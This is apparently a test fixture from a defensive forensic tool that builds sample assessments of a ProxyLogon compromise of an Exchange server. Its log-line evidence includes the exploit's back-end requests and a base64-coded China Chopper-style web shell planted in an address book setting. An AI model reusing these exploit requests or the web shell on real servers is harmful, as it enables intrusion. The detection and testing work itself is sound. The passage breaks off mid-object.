/**
 * Assessments as judging makes them, one per answer, for the tests of everything that shows an assessment. The organisation is
 * invented; addresses are of the documentation ranges. Lines that hold a web shell stand base64-coded, so that an antivirus
 * scanner leaves a clone alone.
 */
import type {
  Assessment,
  Blindness,
  CoverageSpan,
  EvidenceEntry,
  Finding,
  FindingEvidence,
  Intrusion,
  Missing,
  Presence,
  SourceCoverage,
  StageView,
  Targeting,
  WaveAnswer,
} from '../core/assessment.ts';
import { type Bare, reasoned } from './reasoned.fixture.ts';
import { type Plan, type PlanStep, noPlan } from '../core/plan.ts';
import { base64, fromBase64, sha256Hex } from '../core/hash.ts';
import { stageRank, stages } from '../core/stage.ts';
import type { Stage } from '../core/stage.ts';
import { byCodeUnit, decodeText, defang } from '../core/text.ts';

const utf8 = new TextEncoder();
export const encoded = (text: string): string => base64(utf8.encode(text));

/** An ECP server log line in which a script is put into the offline address book's address. */
const plantedBase64 =
  'MjAyMS0wMy0wM1QwNDoxMjozNy4zMTBaLE1BSUwwMSxFQ1AuUmVxdWVzdCxTOlRJTUU9MzEyO1M6U0lEPTBiMWY0YTU2LTZhM2MtNGYwZS05ZTBiLThkNmQyZjBhN2ExMTtTOkNNRD1TZXQtT2FiVmlydHVhbERpcmVjdG9yeS5FeHRlcm5hbFVybD0naHR0cDovL2YvPHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7ZXZhbChSZXF1ZXN0WyJvNFdxN3RjViJdLCJ1bnNhZmUiKTt9PC9zY3JpcHQ+Jy5JZGVudGl0eT0nNWQwYTljMmUtMWYwYi00ZjVmLTlhM2UtNmEyZDFhOGU3YjEwJztTOlJFUUlEPTtTOlVSTD0vZWNwL0RESS9ERElTZXJ2aWNlLnN2Yy9TZXRPYmplY3Q/bXNFeGNoRWNwQ2FuYXJ5PXpRM2YuJnNjaGVtYT1PQUJWaXJ0dWFsRGlyZWN0b3J5O1M6RVg9O1M6QUNUSUQ9M2ExYw==';
const plantedDecisiveBase64 =
  'U2V0LU9hYlZpcnR1YWxEaXJlY3RvcnkuRXh0ZXJuYWxVcmw9J2h0dHA6Ly9mLzxzY3JpcHQgbGFuZ3VhZ2U9IkpTY3JpcHQiIHJ1bmF0PSJzZXJ2ZXIiPg==';

/** One line of proof from its text. */
export function proofLine(
  artifact: string,
  raw: string | { readonly base64: string },
  decisive: readonly (string | { readonly base64: string })[],
  place: { readonly line: number; readonly offsetBytes: number; readonly timeUtc: string | null },
): FindingEvidence {
  const rawBase64 = typeof raw === 'string' ? encoded(raw) : raw.base64;
  const bytes = fromBase64(rawBase64);
  return {
    artifact,
    offsetBytes: place.offsetBytes,
    line: place.line,
    recordId: null,
    timeUtc: place.timeUtc,
    rawBase64,
    shown: defang(decodeText(bytes)),
    decisiveBase64: decisive.map((part) => (typeof part === 'string' ? encoded(part) : part.base64)),
    sha256: sha256Hex(bytes),
  };
}

/** A finding with everything optional filled in. */
export function finding(part: Partial<Finding> & Pick<Finding, 'title' | 'stage' | 'timeUtc'>): Finding {
  const evidence = part.evidence ?? [];
  return {
    id: sha256Hex(`${part.title}|${part.timeUtc}|${evidence.map((row) => row.sha256).join()}`).slice(0, 16),
    confidence: 'confirmed',
    lastUtc: part.timeUtc,
    count: Math.max(1, evidence.length),
    host: 'MAIL01',
    campaign: 'proxylogon',
    rule: 'proxylogon/unnamed',
    techniques: ['T1190'],
    cves: ['CVE-2021-26855'],
    proves: 'Someone asked the server for something that no mail client asks for.',
    doesNotProve: 'That the server gave it to them.',
    innocent: 'None known.',
    observables: [],
    evidence,
    falsePositives: [],
    declared: null,
    ...part,
  };
}

const iisLog = 'MAIL01/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log';
const proxyLog = 'MAIL01/Exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030304-1.LOG';
const ecpLog = 'MAIL01/Exchange/Logging/ECP/Server/ECPServer20210303-1.LOG';

const writer = '203.0.113.24';
const agent = 'python-requests/2.25.1';
const from = (address: string): Finding['observables'] => [{ kind: 'address', value: address, standing: 'direct' }];

const probed = finding({
  title: 'Someone checked from outside whether the hole is there',
  stage: 'probed',
  timeUtc: '2021-02-27T21:14:09.000Z',
  count: 6,
  rule: 'proxylogon/check',
  proves: 'A scanner asked for a page that only answers in a certain way on a vulnerable server.',
  doesNotProve: 'That anyone came back. Public scanners and well-meaning researchers ask the same.',
  innocent: 'Your own vulnerability scan, or a national CERT’s.',
  observables: [...from('198.51.100.77'), { kind: 'user_agent', value: 'Mozilla/5.0 zgrab/0.x', standing: 'direct' }],
  evidence: [
    proofLine(
      iisLog,
      '2021-02-27 21:14:09 10.0.4.11 GET /owa/auth/x.js &cafeReqId=77aa1c02-8f1e-4b0a-a2de-0b6a2f4c1a01; 443 - 198.51.100.77 Mozilla/5.0+zgrab/0.x - 500 0 0 46',
      ['/owa/auth/x.js', '500'],
      { line: 18_204, offsetBytes: 4_118_022, timeUtc: '2021-02-27T21:14:09.000Z' },
    ),
  ],
});

const attemptedFinding = finding({
  title: 'The hole in Exchange was used to ask the back end as the server itself',
  stage: 'attempted',
  timeUtc: '2021-03-03T04:03:11.420Z',
  count: 3,
  rule: 'proxylogon/request',
  proves: 'A visitor from outside sent a request that makes the server talk to its own back end in its own name.',
  doesNotProve: 'What the back end answered.',
  innocent: 'A penetration test. No mail client sends this.',
  observables: [...from(writer), { kind: 'user_agent', value: agent, standing: 'direct' }],
  evidence: [
    proofLine(
      proxyLog,
      `2021-03-03T04:03:11.420Z,0b2c7f0e-6a55-4f7b-9f52-7be3f0f5a001,15,1,2176,2,,,Ecp,mail.haven-street.example,/ecp/y.js,,FBA,,,,,,,ServerInfo~a]@MAIL01.haven.example:444/autodiscover/autodiscover.xml?#,${agent},${writer},MAIL01,200,200,,POST,Proxy`,
      ['ServerInfo~a]@MAIL01.haven.example:444/autodiscover/autodiscover.xml?#'],
      { line: 1_118, offsetBytes: 602_114, timeUtc: '2021-03-03T04:03:11.420Z' },
    ),
  ],
});

const exploitedFinding = finding({
  title: 'They were given an administrator’s session',
  stage: 'exploited',
  timeUtc: '2021-03-03T04:12:30.007Z',
  rule: 'proxylogon/session-obtained',
  proves: 'The back end answered 241: it gave the visitor a session as an administrator, without a password.',
  doesNotProve: 'What they did with it.',
  innocent: 'None known. The server only answers so to its own front end.',
  cves: ['CVE-2021-26855'],
  observables: [...from(writer), { kind: 'session', value: '0b1f4a56-6a3c-4f0e-9e0b-8d6d2f0a7a11', standing: 'direct' }],
  evidence: [
    proofLine(
      proxyLog,
      `2021-03-03T04:12:30.007Z,0b2c7f0e-6a55-4f7b-9f52-7be3f0f5a002,15,1,2176,2,,,Ecp,mail.haven-street.example,/ecp/y.js,,FBA,,,,,,,ServerInfo~a]@MAIL01.haven.example:444/ecp/proxyLogon.ecp?#,${agent},${writer},MAIL01,241,241,,POST,Proxy`,
      ['/ecp/proxyLogon.ecp', '241,241'],
      { line: 1_133, offsetBytes: 611_870, timeUtc: '2021-03-03T04:12:30.007Z' },
    ),
  ],
});

const plantedFinding = finding({
  title: 'A script was put into the offline address book’s web address, and the server accepted it',
  stage: 'implanted',
  timeUtc: '2021-03-03T04:12:37.310Z',
  rule: 'proxylogon/script-planted',
  proves: 'Someone with an administrator’s session stored a program where an address belongs. No exception followed.',
  doesNotProve: 'That the page was written from it; the next line does.',
  innocent: 'None known. Administrators set this to an https address.',
  techniques: ['T1190', 'T1505.003'],
  cves: ['CVE-2021-27065'],
  observables: [
    { kind: 'session', value: '0b1f4a56-6a3c-4f0e-9e0b-8d6d2f0a7a11', standing: 'direct' },
    { kind: 'shell_key', value: 'o4Wq…', standing: 'direct' },
  ],
  falsePositives: ['A restore of the virtual directory from a backup that holds the script already'],
  evidence: [
    proofLine(ecpLog, { base64: plantedBase64 }, [{ base64: plantedDecisiveBase64 }], {
      line: 3_310,
      offsetBytes: 1_204_118,
      timeUtc: '2021-03-03T04:12:37.310Z',
    }),
  ],
});

const writtenFinding = finding({
  title: 'The page was written to the web folder',
  stage: 'implanted',
  timeUtc: '2021-03-03T04:12:40.114Z',
  rule: 'proxylogon/page-written',
  proves: 'The reset of the virtual directory wrote its settings, script and all, to a page that anyone can ask for.',
  doesNotProve: 'That somebody used it.',
  innocent: 'None known together with the line before.',
  techniques: ['T1505.003'],
  cves: ['CVE-2021-27065'],
  observables: [{ kind: 'page', value: '/owa/auth/RedirSuiteServerProxy.aspx', standing: 'direct' }],
  evidence: [
    proofLine(
      ecpLog,
      String.raw`2021-03-03T04:12:40.114Z,MAIL01,ECP.Request,S:TIME=1880;S:CMD=Reset-OabVirtualDirectory.FilePathName='\\127.0.0.1\c$\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\RedirSuiteServerProxy.aspx';S:EX=;S:ACTID=3a1d`,
      [String.raw`\FrontEnd\HttpProxy\owa\auth\RedirSuiteServerProxy.aspx`],
      { line: 3_318, offsetBytes: 1_207_655, timeUtc: '2021-03-03T04:12:40.114Z' },
    ),
  ],
});

const visit = (address: string, timeUtc: string, page: string): Finding =>
  finding({
    title: 'A visitor asked for a back door by a well-known name and got nothing',
    stage: 'probed',
    timeUtc,
    rule: 'proxylogon/known-page-asked',
    count: 4,
    proves: 'Someone knows the names that back doors of this wave have, and tried them here.',
    doesNotProve: 'That they knew of yours.',
    innocent: 'A researcher or CERT counting victims asks for the same names.',
    techniques: ['T1595.002'],
    cves: [],
    observables: from(address),
    evidence: [
      proofLine(
        iisLog,
        `${timeUtc.slice(0, 10)} ${timeUtc.slice(11, 19)} 10.0.4.11 POST ${page} - 443 - ${address} curl/7.58.0 - 404 0 2 15`,
        [page, '404'],
        { line: 40_112, offsetBytes: 9_870_433, timeUtc },
      ),
    ],
  });

const visits = [
  visit('192.0.2.61', '2021-03-05T01:22:54.000Z', '/aspnet_client/shell.aspx'),
  visit('192.0.2.61', '2021-03-06T16:40:13.000Z', '/aspnet_client/supp0rt.aspx'),
  visit('198.51.100.9', '2021-03-08T22:03:37.000Z', '/owa/auth/OutlookEN.aspx'),
];

const orders = finding({
  title: 'The page was told what to do, and answered',
  stage: 'operated',
  timeUtc: '2021-03-05T09:31:02.000Z',
  lastUtc: '2021-03-08T14:12:44.000Z',
  count: 41,
  rule: 'proxylogon/page-order',
  proves: 'The server’s web process started a command shell within the same second as the request.',
  doesNotProve: 'What was asked: the body of a POST is never logged.',
  innocent: 'None known. Exchange does not start cmd.exe from its web pages.',
  techniques: ['T1505.003', 'T1059.003'],
  cves: [],
  observables: [...from(writer), { kind: 'page', value: '/owa/auth/RedirSuiteServerProxy.aspx', standing: 'direct' }],
  evidence: ['09:31:02', '09:31:40', '09:33:15'].map((time, index) =>
    proofLine(
      'MAIL01/inetpub/logs/LogFiles/W3SVC1/u_ex210305.log',
      `2021-03-05 ${time} 10.0.4.11 POST /owa/auth/RedirSuiteServerProxy.aspx - 443 - ${writer} ${agent} - 200 0 0 ${412 + index * 90}`,
      ['/owa/auth/RedirSuiteServerProxy.aspx', ' 200 '],
      { line: 2_201 + index * 3, offsetBytes: 480_112 + index * 688, timeUtc: `2021-03-05T${time}.000Z` },
    ),
  ),
});

const span = (fromUtc: string, toUtc: string): CoverageSpan => ({ fromUtc, toUtc });
const day = (date: string): string => `2021-${date}T00:00:00.000Z`;

function source(
  kind: string,
  spans: readonly CoverageSpan[],
  gaps: readonly CoverageSpan[] = [],
  part: Partial<Bare<SourceCoverage>> = {},
): Bare<SourceCoverage> {
  return {
    kind,
    host: 'MAIL01',
    state: 'covers',
    proven: [],
    spans,
    gaps,
    records: spans.length * 84_211,
    problems: [],
    ...part,
  };
}

const end = '2021-03-09T18:40:00.000Z';
const sources = {
  iis: source('iis', [span(day('02-24'), end)]),
  httpproxy: source('httpproxy', [span(day('02-24'), end)]),
  ecp: source('ecp-server', [span(day('03-02'), end)], [span(day('02-24'), day('03-02'))]),
  management: source(
    'msexchange-management',
    [span(day('02-24'), day('03-07')), span(day('03-08'), end)],
    [span(day('03-07'), day('03-08'))],
  ),
  security: source('windows-security', [span(day('03-08'), end)], [span(day('02-24'), day('03-08'))]),
  ews: source('ews', [], [], { state: 'missing', records: 0 }),
};

const waves = (answers: readonly [WaveAnswer['answer'], WaveAnswer['coverage']][]): Bare<WaveAnswer>[] =>
  [
    { campaign: 'proxylogon', wave: 'quiet', name: 'the quiet, targeted attacks', fromUtc: day('01-03'), toUtc: day('02-26') },
    { campaign: 'proxylogon', wave: 'mass', name: 'the first broad scans', fromUtc: day('02-26'), toUtc: day('03-03') },
    {
      campaign: 'proxylogon',
      wave: 'after-the-patch',
      name: 'the mass wave of March',
      fromUtc: day('03-03'),
      toUtc: day('04-01'),
    },
  ].map((wave, index) => ({ ...wave, answer: answers[index]![0], coverage: answers[index]![1] }));

/** A ladder: what was seen, and for each other stage its state and words. */
function ladder(steps: Partial<Record<Stage, readonly [StageView['state'], string, string?]>>): Bare<StageView>[] {
  return stages
    .filter((stage) => stage !== 'none')
    .map((stage) => {
      const [state, text, firstUtc] = steps[stage] ?? ['cannot_tell', 'nothing here would show it', undefined];
      return { stage, state, text, firstUtc: firstUtc ?? null };
    });
}

const noPresence: Bare<Presence> = { asOfUtc: end, seen: 'not_seen', lastUtc: null, waysBack: [] };
const openTargeting: Bare<Targeting> = {
  word: 'open',
  for: [],
  against: [],
  open: ['The logs of January would tell: the targeted attacks ran then.'],
};

function intrusion(
  part: Partial<Bare<Intrusion>> & Pick<Intrusion, 'role' | 'stage' | 'firstUtc' | 'lastUtc' | 'findings'>,
): Bare<Intrusion> {
  return {
    id: sha256Hex(part.findings.join()).slice(0, 16),
    campaign: 'proxylogon',
    confidence: 'confirmed',
    wave: ['after-the-patch'],
    targeting: openTargeting,
    presence: noPresence,
    hosts: [{ host: 'MAIL01', role: 'asked' }],
    observables: [],
    declared: null,
    together: [],
    apart: [],
    mail: [],
    ...part,
  };
}

const ids = (findings: readonly Finding[]): string[] => findings.map((one) => one.id);

const visitors = [
  intrusion({
    role: 'visitor',
    stage: 'probed',
    firstUtc: '2021-03-05T01:22:54.000Z',
    lastUtc: '2021-03-06T16:40:13.000Z',
    findings: ids(visits.slice(0, 2)),
    observables: from('192.0.2.61'),
  }),
  intrusion({
    role: 'visitor',
    stage: 'probed',
    firstUtc: '2021-03-08T22:03:37.000Z',
    lastUtc: '2021-03-08T22:03:37.000Z',
    findings: ids(visits.slice(2)),
    observables: from('198.51.100.9'),
  }),
];

const entry = (
  path: string,
  kind: string | null,
  bytes: number,
  records: number,
  part: Partial<EvidenceEntry> = {},
): EvidenceEntry => ({
  id: sha256Hex(path).slice(0, 16),
  host: 'MAIL01',
  kind,
  path,
  canonicalPath: `C:\\${path.split('/').slice(1).join('\\')}`,
  bytes,
  sha256: sha256Hex(`${path}${bytes}`),
  records,
  firstUtc: day('02-24'),
  lastUtc: end,
  clock: { basis: 'utc', zone: 'UTC', skewMs: null, why: 'the log writes UTC' },
  times: null,
  problems: [],
  ...part,
});

const missing = {
  ews: {
    kind: 'ews',
    host: 'MAIL01',
    text: 'No EWS logs were handed in.',
    where: String.raw`Look on MAIL01 in C:\Program Files\Microsoft\Exchange Server\V15\Logging\Ews, and for older days in last month’s backup.`,
    decides: 'whether mail was read or taken',
  },
  security: {
    kind: 'windows-security',
    host: 'MAIL01',
    text: 'The Windows security log begins on 8 March; it is overwritten after two days.',
    where: 'Your SIEM or log collector, the EDR portal, a snapshot of MAIL01 from before 8 March.',
    decides: 'whether they moved on to other computers',
  },
  ecp: {
    kind: 'ecp-server',
    host: 'MAIL01',
    text: 'No ECP server logs are here at all.',
    where: String.raw`Look on MAIL01 in …\Logging\ECP\Server, then in last month’s backup or a snapshot, and run this again.`,
    decides: 'whether they left something behind',
  },
  january: {
    kind: 'iis',
    host: null,
    text: 'No logs from before 9 March.',
    where: 'Backups and snapshots of the server, the firewall’s or load balancer’s own log, the mail gateway, your SIEM.',
    decides: 'whether the mass wave (26 February to 2 March) or the quiet one (from 3 January) reached you',
  },
  secondServer: {
    kind: 'iis',
    host: 'MAIL02',
    text: 'Nothing of MAIL02 was handed in; the load balancer sends half of the requests there.',
    where: 'MAIL02 itself: run the collection there too.',
    decides: 'whether they got further on MAIL02',
  },
} satisfies Record<string, Bare<Missing>>;

/** A step with everything filled in. */
const step = (part: Partial<PlanStep> & Pick<PlanStep, 'id' | 'title' | 'text' | 'minutes'>): PlanStep => ({
  phase: 'stop',
  time: 'now',
  host: 'MAIL01',
  why: 'The web pages of MAIL01 are the way in.',
  findings: [],
  bound: [],
  who: 'you',
  stops: { what: 'Nothing.', minutes: 0 },
  breaks: 'Nothing.',
  undo: 'Nothing has to be undone.',
  verify: 'The next report says so.',
  check: { kind: 'by_hand' },
  commands: [],
  byHand: 'It is a call.',
  references: [{ id: 'M1047', title: 'Audit', url: 'https://attack.mitre.org/mitigations/M1047/' }],
  ...part,
});

const cutOff = step({
  id: 'stop/cut-off',
  title: 'Cut MAIL01 off, leave it running',
  text: 'Close 443 and 80 from the internet, and everything outgoing from MAIL01 except SMTP to your relay, DNS to your own servers and the domain controllers.',
  stops: { what: 'Webmail, phones and Outlook from outside. Mail itself keeps flowing.', minutes: null },
  undo: 'Open the same ports.',
  verify: 'No new line from outside in the IIS log.',
  check: { kind: 'no_requests_from_outside', host: 'MAIL01' },
  who: 'firewall',
  minutes: 10,
  findings: ids([plantedFinding]),
  bound: [{ name: 'servers', value: 'MAIL01', at: ['/hosts/0/host'], findings: ids([plantedFinding]) }],
  commands: [
    {
      does: 'Windows closes the web ports itself.',
      effect: 'changes',
      text: "New-NetFirewallRule -DisplayName 'Afterpatch web closed' -Direction Inbound -Protocol TCP -LocalPort 80,443 -RemoteAddress Internet -Action Block",
      value: null,
    },
  ],
  byHand: null,
});
const keepCopy = step({
  id: 'keep/copy',
  phase: 'keep',
  title: 'Copy the logs and web folders of MAIL01 before anything is removed',
  text: 'Before anything is removed, or the proof is gone.',
  who: 'server',
  minutes: 15,
});

const plan: Plan = {
  ...noPlan,
  kind: 'B',
  because: [
    { text: 'They left a back door, and nothing here shows that it was used for more.', findings: ids([plantedFinding]) },
  ],
  steps: [
    cutOff,
    keepCopy,
    step({
      id: 'evict/move-file/0a1b2c3d',
      phase: 'evict',
      time: 'night',
      title: 'Move RedirSuiteServerProxy.aspx away, and set the address book’s web address back',
      text: 'Three places hold the same script: the page, the address, and the compiled copy in Temporary ASP.NET Files; another reset would write it again. Careful: RedirSuiteServiceProxy.aspx belongs to Microsoft.',
      minutes: 10,
      findings: ids([plantedFinding, writtenFinding]),
    }),
    step({
      id: 'secrets/machine-keys',
      phase: 'secrets',
      time: 'night',
      title: 'Make new keys for the web server and new passwords for its accounts',
      text: 'What a ten-minute administrator’s session could read counts as read.',
      minutes: 45,
      findings: ids([exploitedFinding]),
    }),
    step({
      id: 'watch/watch',
      phase: 'watch',
      time: 'days',
      title: 'Collect again and run afterpatch verify',
      text: 'Open the ports again when each step shows as done.',
      minutes: 10,
    }),
  ],
  secrets: [
    {
      kind: 'machine_key',
      name: null,
      host: 'MAIL01',
      standing: 'readable',
      because: 'a page can read the machine keys of the web applications',
      sinceUtc: '2021-03-03T04:12:37.310Z',
      findings: ids([plantedFinding]),
      at: [],
    },
  ],
  rebuild: [
    {
      host: 'MAIL01',
      advice: 'clean',
      reasons: [{ text: 'The back door on MAIL01 was written, and no order to it is seen.', findings: ids([writtenFinding]) }],
    },
  ],
  backup: [
    {
      host: 'MAIL01',
      beforeUtc: '2021-03-03T04:12:37.310Z',
      text: 'Take a backup of MAIL01 from before 2021-03-03 04:12 UTC, when they first wrote something. Later ones bring the back door back with them.',
      findings: ids([plantedFinding]),
    },
  ],
  upgrade: [
    {
      host: 'MAIL01',
      from: { build: '15.1.2106.2', name: 'Exchange 2016 CU18' },
      to: { build: '15.1.2507.71', name: 'Exchange 2016 CU23', kb: null },
      downMinutes: 200,
      stages: [{ what: 'Install Exchange 2016 CU23', minutes: 120, restart: true, source: 'https://learn.microsoft.com/' }],
      notKnown: ['which Windows it runs on'],
    },
  ],
};

const look = step({
  id: 'find/fetch/1',
  phase: 'find',
  title: 'Fetch the logs named above and run this again',
  text: 'It takes minutes and turns “cannot tell” into an answer.',
  minutes: 30,
});
const patch = step({
  id: 'renew/update/1',
  phase: 'renew',
  title: 'Install the security update for your build',
  text: 'The hole is open until the fixed build runs.',
  stops: { what: 'Mail, for the time of the update.', minutes: 60 },
  verify: 'The build in the HttpProxy log.',
  check: { kind: 'build_at_least', host: 'MAIL01', build: '15.1.2176.9' },
  minutes: 60,
});
const careful = (kind: Plan['kind'], ...steps: readonly PlanStep[]): Plan => ({ ...noPlan, kind, steps });

const verdictBase = {
  beyond: 'not_covered',
  confidence: 'confirmed',
  missing: [missing.ews, missing.security],
  presence: noPresence,
  reasons: [],
} as const;

/** As `--measure-blindness` tells it of logs that begin on 24 February. */
const blindness: Blindness = {
  seed: '5f0c1d2a9b3e4f60',
  fromUtc: '2021-01-03T00:00:00.000Z',
  toUtc: '2021-03-09T00:00:00.000Z',
  days: 65,
  experiments: 41,
  situations: 17,
  share: { moments: 3120, seen: 0.1, partly: 0.1, low: 0.0987, high: 0.1014 },
  says: [
    'Had they come on any of the 65 days from 3 January to 8 March 2021, we would have seen how far they came 10 % of the time; never before 24 February 2021.',
    'Never mail read through the hole; your EWS logs are missing.',
  ],
  techniques: [
    {
      id: 'proxylogon/session',
      pack: 'proxylogon',
      name: 'an administrator’s session through the hole',
      stage: 'exploited',
      share: { moments: 1560, seen: 0.2, partly: 0, low: 0.1974, high: 0.2027 },
      withAll: 'seen',
      firstUtc: '2021-02-24T00:00:00.000Z',
      lastUtc: '2021-03-08T00:00:00.000Z',
      waves: [
        {
          wave: 'W1',
          fromUtc: '2021-01-03T00:00:00.000Z',
          toUtc: '2021-02-26T00:00:00.000Z',
          share: { moments: 1296, seen: 0.037, partly: 0, low: 0.0355, high: 0.0386 },
        },
      ],
      spans: [
        { fromUtc: '2021-01-03T00:00:00.000Z', toUtc: '2021-02-24T00:00:00.000Z', seen: 0, partly: 0 },
        { fromUtc: '2021-02-24T00:00:00.000Z', toUtc: '2021-03-09T00:00:00.000Z', seen: 1, partly: 0 },
      ],
      lacks: [{ kind: 'httpproxy', host: 'MAIL01', why: 'gap', columns: [], alone: true, share: 0.8, where: 'in a backup' }],
      says: 'An administrator’s session through the hole: 20 % of the time, never before 24 February 2021; your HttpProxy logs are not here for all of that time.',
    },
    {
      id: 'proxylogon/mail',
      pack: 'proxylogon',
      name: 'mail read through the hole',
      stage: 'impact',
      share: { moments: 1560, seen: 0, partly: 0.2, low: 0, high: 0 },
      withAll: 'seen',
      firstUtc: null,
      lastUtc: null,
      waves: [],
      spans: [
        { fromUtc: '2021-01-03T00:00:00.000Z', toUtc: '2021-02-24T00:00:00.000Z', seen: 0, partly: 0 },
        { fromUtc: '2021-02-24T00:00:00.000Z', toUtc: '2021-03-09T00:00:00.000Z', seen: 0, partly: 1 },
      ],
      lacks: [
        { kind: 'ews', host: 'MAIL01', why: 'missing', columns: [], alone: true, share: 1, where: null },
        { kind: 'iis-w3c', host: 'MAIL01', why: 'columns', columns: ['cs-uri-query'], alone: false, share: 0.2, where: null },
      ],
      says: 'Mail read through the hole: never; your EWS logs are missing.',
    },
  ],
  notMeasured: [{ pack: 'post-exploitation', what: 'programs started', why: 'they stand in event logs' }],
};

function assessment(part: Pick<Bare<Assessment>, 'verdict'> & Partial<Bare<Assessment>>): Assessment {
  const findings = part.findings ?? [];
  return reasoned({
    schema: 'afterpatch.assessment/1',
    evidence: [
      entry('MAIL01/Exchange/Logging/ECP/Server/ECPServer20210303-1.LOG', 'ecp-server', 4_118_002, 12_204),
      entry('MAIL01/Exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030304-1.LOG', 'httpproxy', 1_204_118, 3_310),
      entry('MAIL01/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log', 'iis', 48_213_004, 312_455, {
        problems: [{ code: 'text.torn_last_line', at: 48_212_877, count: 1 }],
      }),
    ],
    blindness: null,
    organisation: { name: 'Haven Street Clinic', hosts: ['MAIL01'], absentHosts: [], evidenceEndUtc: end },
    collections: [
      {
        root: 'MAIL01',
        collector: 'kape',
        host: 'MAIL01',
        collectedUtc: end,
        clock: { basis: 'utc', why: 'the names of the logs of KAPE carry the time at which it began, in UTC' },
        snapshot: null,
        files: 3,
      },
    ],
    overTime: [],
    next: {
      answer: { answer: part.verdict.answer, exitCode: part.verdict.exitCode },
      ifNothing: { answer: part.verdict.answer, exitCode: part.verdict.exitCode },
      list: [],
      others: 0,
      bytes: null,
      files: null,
      says: 'No log that is missing could change this answer.',
    },
    campaigns: [{ id: 'proxylogon', name: 'ProxyLogon', packVersion: '1.0.0', firstUtc: day('01-03'), patchedUtc: day('03-02') }],
    hosts: [
      {
        host: 'MAIL01',
        verdict: {
          answer: part.verdict.answer,
          entered: part.verdict.entered,
          beyond: part.verdict.beyond,
          stage: part.verdict.stage,
          confidence: part.verdict.confidence,
        },
      },
    ],
    inventory: [],
    exposure: [
      {
        host: 'MAIL01',
        product: 'Exchange 2016 CU17',
        builds: [
          {
            build: '15.1.2176.2',
            firstUtc: day('02-24'),
            lastUtc: '2021-03-04T15:00:00.000Z',
            source: 'httpproxy',
            name: 'Exchange 2016 CU19',
            proof: 'ran',
          },
          {
            build: '15.1.2176.9',
            firstUtc: '2021-03-04T15:06:00.000Z',
            lastUtc: end,
            source: 'httpproxy',
            name: 'Exchange 2016 CU19 Mar21SU',
            proof: 'ran',
          },
        ],
        changes: [
          {
            kind: 'update',
            from: '15.1.2176.2',
            to: '15.1.2176.9',
            afterUtc: '2021-03-04T15:00:00.000Z',
            byUtc: '2021-03-04T15:06:00.000Z',
            source: 'httpproxy',
          },
        ],
        reached: { state: 'yes', firstUtc: day('02-24'), lastUtc: end },
        mitigations: [],
        holes: [],
        fix: null,
        says: null,
        campaigns: [
          {
            campaign: 'proxylogon',
            state: 'fixed',
            fixedSinceUtc: '2021-03-04T15:06:00.000Z',
            why: 'the HttpProxy log carries build 15.1.2176.9 from then on',
            open: [{ fromUtc: day('02-24'), toUtc: '2021-03-04T15:00:00.000Z' }],
            exposed: 'no',
            whenTheyCame: 'open',
          },
        ],
      },
    ],
    coverage: {
      ledgers: [
        {
          host: 'MAIL01',
          book: 'iis_front',
          against: 'httpproxy',
          fromUtc: day('02-24'),
          toUtc: day('03-09'),
          rows: 40_103,
          state: 'differ',
          missing: [
            {
              fromUtc: '2021-03-03T04:11:00.000Z',
              toUtc: '2021-03-03T04:13:00.000Z',
              rows: 2,
              request: null,
              silent: false,
              requests: [
                {
                  id: '77aa1c02-8f1e-4b0a-a2de-0b6a2f4c1a02',
                  timeUtc: '2021-03-03T04:11:09.120Z',
                  method: 'POST',
                  path: '/ecp/<y>.js',
                  address: '203.0.113.24',
                  account: null,
                  status: '200',
                  books: [{ book: 'httpproxy', artifact: 'HttpProxy/Ecp/HttpProxy_2021030304-1.LOG', line: 17 }],
                },
              ],
              findings: [],
            },
          ],
        },
        {
          host: 'MAIL01',
          book: 'httpproxy',
          against: 'iis_front',
          fromUtc: day('02-24'),
          toUtc: day('03-09'),
          rows: 40_103,
          state: 'differ',
          missing: [],
        },
      ],
      silences: [
        {
          host: 'MAIL01',
          fromUtc: '2021-03-01T04:01:00.000Z',
          toUtc: '2021-03-01T04:41:00.000Z',
          otherDays: 12,
          usualMinutes: 5,
          explained: null,
          systemLog: false,
        },
      ],
      steps: [
        {
          artifact: 'W3SVC1/u_ex210302.log',
          host: 'MAIL01',
          fromUtc: '2021-03-02T05:00:00.000Z',
          toUtc: '2021-03-02T04:00:00.000Z',
          clockSet: false,
        },
      ],
      sources: [sources.ecp, sources.ews, sources.httpproxy, sources.iis, sources.management, sources.security],
      campaigns: [
        {
          campaign: 'proxylogon',
          fromUtc: day('01-03'),
          toUtc: end,
          sources: [
            { kind: 'ecp-server', host: 'MAIL01', stage: 'implanted', state: 'partly', shows: 'scripts put into web addresses' },
            { kind: 'ews', host: 'MAIL01', stage: 'impact', state: 'missing', shows: 'mail that was read' },
            { kind: 'httpproxy', host: 'MAIL01', stage: 'exploited', state: 'partly', shows: 'sessions given away' },
          ],
        },
      ],
    },
    intrusions: [],
    findings: findings.toSorted((a, b) => byCodeUnit(a.id, b.id)),
    novelty: { normal: [], items: [], left: 0 },
    plan: noPlan,
    notRead: [
      {
        path: 'MAIL01/Exchange/Logging/Diagnostics/DailyPerformanceLogs/perf.blg',
        bytes: 104_857_600,
        why: 'nothing reads performance counters',
      },
      { path: 'MAIL01/notes.docx', bytes: 48_211, why: 'nothing reads this kind of file yet' },
    ],
    problems: [
      { artifact: 'MAIL01/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log', code: 'text.torn_last_line', at: 48_212_877, count: 1 },
    ],
    ...part,
  });
}

const waysBack: Bare<Presence>['waysBack'] = [
  {
    kind: 'file',
    what: String.raw`C:\…\FrontEnd\HttpProxy\owa\auth\RedirSuiteServerProxy.aspx`,
    host: 'MAIL01',
    state: 'open',
    why: 'the page was written on 3 March and answered until 6 March; nothing here shows that it was removed',
    removedBy: null,
    sinceUtc: '2021-03-03T04:12:40.114Z',
    findings: ids([writtenFinding]),
  },
  {
    kind: 'key',
    what: 'the web server’s machine keys',
    host: 'MAIL01',
    state: 'open',
    why: 'an administrator’s session can read them, and they make valid sign-ins without a password',
    removedBy: null,
    sinceUtc: '2021-03-03T04:12:30.007Z',
    findings: ids([exploitedFinding]),
  },
  {
    kind: 'password',
    what: 'passwords of the server’s accounts',
    host: 'MAIL01',
    state: 'unknown',
    why: 'what the server has in memory may have been read',
    removedBy: null,
